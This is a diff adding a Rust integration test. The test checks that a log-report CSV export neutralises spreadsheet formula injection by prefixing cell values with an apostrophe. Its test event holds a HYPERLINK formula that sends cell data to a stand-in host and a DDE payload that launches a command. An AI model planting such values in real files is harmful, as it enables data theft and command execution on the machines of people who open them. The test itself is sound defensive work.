@@ -463,6 +463,58 @@ async fn the_report_is_a_pdf_and_a_csv_released_to_the_requester() {
 }
 
 #[actix_rt::test]
+async fn the_report_csv_opens_in_a_spreadsheet_as_text_not_formulas() {
+    let app = TestApp::spawn().await;
+    let token = ingest_token(&app).await;
+    // A client system's log is not ours: anyone who can type a name or unit there can
+    // plant a formula for the requester's spreadsheet.
+    let planted = json!({ "event_id": "f1", "occurred_at": "2025-06-01T10:00:00+03:00",
+        "subject_id": SUBJECT, "user_name": "=HYPERLINK(\"http://x.example/?\"&A1;\"Avaa\")",
+        "user_title": "+cmd|' /C calc'!A0", "unit": "-2+3", "action": "@SUM(1)",
+        "basis": "asiakkuus", "recipient": "Poliisi" });
+    let (s, b) = ingest(&app, &token, "turvakoti", ndjson(&[planted])).await;
+    assert_eq!(b["stored"], 1, "{s} {b}");
+    let id = log_request(
+        &app,
+        json!({ "period_from": "2024-11-02", "period_to": "2026-11-01" }),
+    )
+    .await;
+    let (s, docs) = app
+        .post(
+            &format!("/api/v1/requests/{id}/log-report"),
+            Some(&app.org.staff),
+            json!({}),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{docs}");
+    let csv_doc = docs
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["kind"] == "log_report_csv")
+        .unwrap();
+    let csv = app
+        .client
+        .get(format!(
+            "{}/api/v1/documents/{}",
+            app.base,
+            csv_doc["id"].as_str().unwrap()
+        ))
+        .bearer_auth(&app.org.staff)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let row = csv.lines().nth(1).unwrap();
+    assert_eq!(
+        row,
+        r#""2025-06-01","'=HYPERLINK(""http://x.example/?""&A1;""Avaa"")","'+cmd|' /C calc'!A0","'-2+3","'@sum(1)","asiakkuus","Poliisi",1"#
+    );
+}
+
+#[actix_rt::test]
 async fn old_events_are_purged_by_the_scheduler() {
     let app = TestApp::spawn_with(|s| s.logs.log_retention_days = 731).await;
     let token = ingest_token(&app).await;
